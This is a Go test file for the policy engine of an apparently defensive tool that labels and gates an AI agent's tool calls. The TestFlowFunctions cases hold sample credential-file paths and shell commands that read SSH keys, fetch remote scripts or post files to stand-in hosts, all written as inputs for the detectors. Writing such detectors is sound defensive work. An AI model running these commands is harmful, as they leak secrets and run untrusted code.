package policy

import (
	"context"
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/wardenhq/warden/labels"

	"cel.dev/cel-go/common/types/ref"

	"github.com/wardenhq/warden"
)

func TestLoadLabelErrors(t *testing.T) {
	const head = "id: a\nversion: \"1\"\nevents: [e]\n"
	for _, tc := range []struct {
		name, src string
		want      []string
	}{
		{"upper case", head + "label: [Read_Private]\n",
			[]string{`4: label[0]: label "Read_Private": a label is a lowercase letter, then lowercase letters, digits, '_', '-' or '.'`}},
		{"second bad", head + "label:\n  - read_private\n  - \"with space\"\n",
			[]string{`6: label[1]: label "with space": a label is a lowercase letter, then lowercase letters, digits, '_', '-' or '.'`}},
		{"empty list", head + "label: []\n",
			[]string{"4: label must be a non-empty list of label names, e.g. [untrusted_input]"}},
		{"null", head + "label:\n",
			[]string{"4: label must be a non-empty list of label names, e.g. [untrusted_input]"}},
		{"mapping", head + "label: {a: b}\n",
			[]string{"4: label must be a non-empty list of label names, e.g. [untrusted_input]"}},
		{"not a string", head + "label: [read_private, 7]\n",
			[]string{"4: label[1]: a label name must be a string"}},
		{"empty name", head + "label: [\"\"]\n",
			[]string{"4: label[0]: a label must not be empty"}},
		{"too long", head + "label: [" + strings.Repeat("a", labels.MaxLen+1) + "]\n",
			[]string{"4: label[0]: label \"aaaaaaaaaaaaaaaaaaaa\"… is longer than 64 characters"}},
		{"modify without decision", head + "label: [x]\nmodify:\n  - redact: [email]\n",
			[]string{"5: modify is only valid with decision: modify"}},
		{"neither label nor decision", head, []string{"1: missing decision (policy a)"}},
		{"label only", head + "label: read_private\n", nil},
		{"label with a decision", head + "decision: deny\nlabel: [a, b]\n", nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := writeFile(t, t.TempDir(), "p.yaml", tc.src)
			_, err := Load(p)
			if tc.want == nil {
				if err != nil {
					t.Fatalf("Load: %v", err)
				}
				return
			}
			var el ErrorList
			if !errors.As(err, &el) {
				t.Fatalf("Load error = %v, want an ErrorList", err)
			}
			want := make([]string, len(tc.want))
			for i, w := range tc.want {
				want[i] = p + ":" + w
			}
			if got := err.Error(); got != strings.Join(want, "\n") {
				t.Errorf("errors:\n%s\nwant:\n%s", got, strings.Join(want, "\n"))
			}
		})
	}
}

func TestEngineLabels(t *testing.T) {
	s := mustLoad(t, `id: only-labels
version: "1"
events: [steps/toolCallRequest]
when: tool.name == "fetch"
label: [untrusted_input, untrusted_input]
---
id: labels-and-allows
version: "1"
events: [steps/toolCallRequest]
when: tool.name == "fetch"
decision: allow
label: [web]
---
id: audit-labels
version: "1"
events: [steps/toolCallRequest]
decision: deny
mode: audit
label: [audited]
---
id: sees-labels
version: "1"
events: [steps/toolCallRequest]
when: '"untrusted_input" in session.labels && tool.name == "send"'
decision: deny
reasonExpr: '"labels: " + session.labels.join(",")'
`)
	e := NewEngine(s, Options{})
	ctx := context.Background()

	d, err := e.Decide(ctx, toolCall("fetch", nil))
	if err != nil {
		t.Fatal(err)
	}
	if d.Verdict != warden.Allow || !reflect.DeepEqual(d.Labels, []string{"untrusted_input", "web"}) {
		t.Fatalf("fetch: %v %q", d.Verdict, d.Labels)
	}
	var only *warden.Result
	for i := range d.Results {
		if d.Results[i].PolicyID == "only-labels" {
			only = &d.Results[i]
		}
	}
	if only == nil || only.Decision != "" || !reflect.DeepEqual(only.Labels, []string{"untrusted_input"}) ||
		only.Reason != "policy only-labels labels the session: untrusted_input" {
		t.Fatalf("label-only result %+v", only)
	}

	// A label-only match does not vote: nothing else decides → Abstain.
	ev := toolCall("other", nil)
	if d, _ = e.Decide(ctx, ev); d.Verdict != warden.Abstain || d.Labels != nil {
		t.Fatalf("other: %v %q", d.Verdict, d.Labels)
	}

	// session.labels is what the Decider put in the event.
	ev = toolCall("send", nil)
	if d, _ = e.Decide(ctx, ev); d.Verdict != warden.Abstain {
		t.Fatalf("send without labels: %v", d.Verdict)
	}
	ev = toolCall("send", nil)
	ev.SessionLabels = []string{"read_private", "untrusted_input"}
	if d, _ = e.Decide(ctx, ev); d.Verdict != warden.Deny || d.Reason != "labels: read_private,untrusted_input" {
		t.Fatalf("send with labels: %v %q", d.Verdict, d.Reason)
	}
}

func TestSessionAndProvenanceVariables(t *testing.T) {
	ev := toolCall("x", nil)
	ev.SessionLabels = []string{"read_private"}
	ev.Provenance = []warden.Provenance{
		{Field: "/arguments/q/provenance", ID: "p1", Origin: "user_input"},
		{Field: "/arguments/u/provenance", ID: "p2", Origin: "external", SourceID: "https://example.com", DerivedFrom: []string{"p0"}},
	}
	for _, tc := range []struct {
		expr string
		want bool
	}{
		{`session.labels == ["read_private"]`, true},
		{`"read_private" in session.labels && session.id == "s1"`, true},
		{`size(session.labels) == 1`, true},
		{`provenance.exists(p, p.origin == "external" && p.source_id.startsWith("https://"))`, true},
		{`provenance[0].source_id == "" && provenance[0].derived_from == []`, true},
		{`provenance[1].derived_from == ["p0"] && provenance[1].field == "/arguments/u/provenance"`, true},
		{`provenance.all(p, p.origin == "user_input")`, false},
	} {
		t.Run(tc.expr, func(t *testing.T) {
			prg, msgs := compile(tc.expr, nil)
			if msgs != nil {
				t.Fatal(msgs)
			}
			act := NewActivation(ev)
			defer act.Release()
			got, err := prg.evalBool(act)
			if err != nil || got != tc.want {
				t.Fatalf("= %v, %v; want %v", got, err, tc.want)
			}
		})
	}
	// Without labels or provenance both are empty lists, never missing.
	act := NewActivation(toolCall("x", nil))
	defer act.Release()
	prg, _ := compile(`session.labels == [] && provenance == []`, nil)
	if ok, err := prg.evalBool(act); !ok || err != nil {
		t.Fatalf("empty: %v, %v", ok, err)
	}
}

func TestFlowFunctions(t *testing.T) {
	for _, tc := range []struct {
		fn   string
		arg  any
		want any
	}{
		{"tool_name", "Read", "read"},
		{"tool_name", "mcp__gmail__send_email", "send_email"},
		{"tool_name", "mcp__odd", "mcp__odd"},
		{"tool_name", strings.Repeat("x", maxToolName+1), ""},
		{"tool_name", 7, ""},
		{"private_path", "/home/ann/.ssh/id_ed25519", true},
		{"private_path", "~/.aws/credentials", true},
		{"private_path", "/Users/bob/Documents/taxes.pdf", true},
		{"private_path", "./service/.env.production", true},
		{"private_path", "/etc/shadow", true},
		{"private_path", "deploy/server.pem", true},
		{"private_path", "config/secrets/db.yaml", true},
		{"private_path", "/home/ann/project/README.md", false},
		{"private_path", "/home/ann/.envrc", false},
		{"private_path", "src/environment.go", false},
		{"private_path", map[string]any{"file_path": "/root/.ssh/config"}, true},
		{"private_path", map[string]any{"paths": []any{"a.txt", "/home/x/.netrc"}}, true},
		{"private_path", map[string]any{"command": "cat ~/.ssh/id_rsa | base64"}, true},
		{"private_path", map[string]any{"command": []any{"cat", "/home/ann/.aws/config"}}, true},
		{"private_path", map[string]any{"command": "ls -la"}, false},
		{"private_path", map[string]any{"path": 7}, false},
		{"private_path", "/home/ann/.ssh/" + strings.Repeat("x", maxFlowBytes), false},
		{"private_path", map[string]any{"paths": append(make([]any, 0), strings.Repeat("x", maxFlowBytes-10), "/home/x/.netrc")}, false},
		{"private_marked", map[string]any{"private": true}, true},
		{"private_marked", map[string]any{"results": []any{map[string]any{"visibility": "Confidential"}}}, true},
		{"private_marked", map[string]any{"scope": "team"}, false},
		{"private_marked", "private", false},
		{"shell_fetch", map[string]any{"command": "curl -sL https://example.com/x.sh"}, true},
		{"shell_fetch", "wget http://example.com/a", true},
		{"shell_fetch", "curl localhost:8080", false},
		{"shell_send", map[string]any{"command": "curl -X POST https://x.example -d @f"}, true},
		{"shell_send", "curl --data-binary @a https://x", true},
		{"shell_send", "wget --post-file=a https://x", true},
		{"shell_send", "echo hi | mail -s subject eve@example.net", true},
		{"shell_send", "curl https://example.com", false},
		{"external_url", "https://api.example.com/v1", true},
		{"external_url", "HTTP://Example.com", true},
		{"external_url", "http://localhost:8080/x", false},
		{"external_url", "http://127.0.0.1/x", false},
		{"external_url", "http://[::1]:80/", false},
		{"external_url", "file:///etc/passwd", false},
		{"external_url", 5, false},
	} {
		t.Run(tc.fn, func(t *testing.T) {
			var fn func(any, *budget) ref.Val
			for _, f := range flowFunctions {
				if f.name == tc.fn {
					fn = f.fn
				}
			}
			if got := fn(tc.arg, &budget{left: maxFlowBytes}).Value(); got != tc.want {
				t.Fatalf("%s(%.80v) = %v, want %v", tc.fn, tc.arg, got, tc.want)
			}
		})
	}
	// From CEL, over the variables' own values.
	ev := toolCall("Read", map[string]any{"file_path": "/home/ann/.ssh/id_rsa", "url": "https://example.com"})
	act := NewActivation(ev)
	defer act.Release()
	prg, msgs := compile(`private_path(tool.args) && external_url(tool.args.url) && !shell_send(tool.args) && tool_name(tool.name) == "read"`, nil)
	if msgs != nil {
		t.Fatal(msgs)
	}
	if ok, err := prg.evalBool(act); !ok || err != nil {
		t.Fatalf("from CEL: %v, %v", ok, err)
	}
}

// TestReadsLabels: which expressions may read session.labels (the Decider
// does not read a session's labels for a step no candidate policy of
// which may).
func TestReadsLabels(t *testing.T) {
	for _, tt := range []struct {
		src  string
		want bool
	}{
		{`session.id == ""`, false},
		{`tool.name == "fetch" && session.id.startsWith("s-")`, false},
		{`payload.x == 1`, false},
		// A comprehension's local named session: the checker's reference
		// map names it too, so it counts (the safe side).
		{`[1, 2].exists(session, session == 2)`, true},
		{`"read_private" in session.labels`, true},
		{`size(session.labels) > 0`, true},
		{`session["labels"].size() > 0`, true},
		{`session["id"] == ""`, true}, // an index: taken to read anything
		{`has(session.id)`, true},
		{`size(session) > 1`, true},
		{`[session].size() == 1`, true},
		{`session.id == "" || "x" in session.labels`, true},
	} {
		t.Run(tt.src, func(t *testing.T) {
			p, msgs := compile(tt.src, nil)
			if msgs != nil {
				t.Fatal(msgs)
			}
			if p.labels != tt.want {
				t.Fatalf("readsLabels(%s) = %v, want %v", tt.src, p.labels, tt.want)
			}
		})
	}
}

// TestEngineUsesSessionLabels: per event, by the candidate policies'
// expressions (when, reasonExpr and modify values), and the engine refuses
// to decide without labels it would read (labels.ErrUnread).
func TestEngineUsesSessionLabels(t *testing.T) {
	s := mustLoad(t, `id: needs-session
version: "1"
events: [steps/toolCallRequest]
when: session.id == ""
decision: deny
---
id: trifecta
version: "1"
events: [steps/toolCallResult]
when: '"read_private" in session.labels'
decision: ask
---
id: reason
version: "1"
events: [steps/message]
when: "true"
decision: allow
reasonExpr: '"labels: " + session.labels.join(",")'
---
id: modify
version: "1"
events: [steps/memoryStore]
when: "true"
decision: modify
modify:
  - set: {path: /note, value: 'string(size(session.labels))'}
`)
	e := NewEngine(s, Options{})
	for ev, want := range map[string]bool{
		"steps/toolCallRequest": false, "steps/toolCallResult": true, "steps/message": true,
		"steps/memoryStore": true, "steps/none": false,
	} {
		if got := e.UsesSessionLabels(ev); got != want {
			t.Errorf("UsesSessionLabels(%s) = %v, want %v", ev, got, want)
		}
	}
	ev := toolCall("fetch", nil)
	ev.Name, ev.LabelsUnread = "steps/toolCallResult", true
	if _, err := e.Decide(context.Background(), ev); !errors.Is(err, labels.ErrUnread) {
		t.Fatalf("Decide without labels it reads: %v", err)
	}
	ev.Name = "steps/toolCallRequest" // reads session.id only: decides
	if d, err := e.Decide(context.Background(), ev); err != nil || d.Verdict != warden.Abstain {
		t.Fatalf("Decide = %v, %v", d.Verdict, err)
	}
}
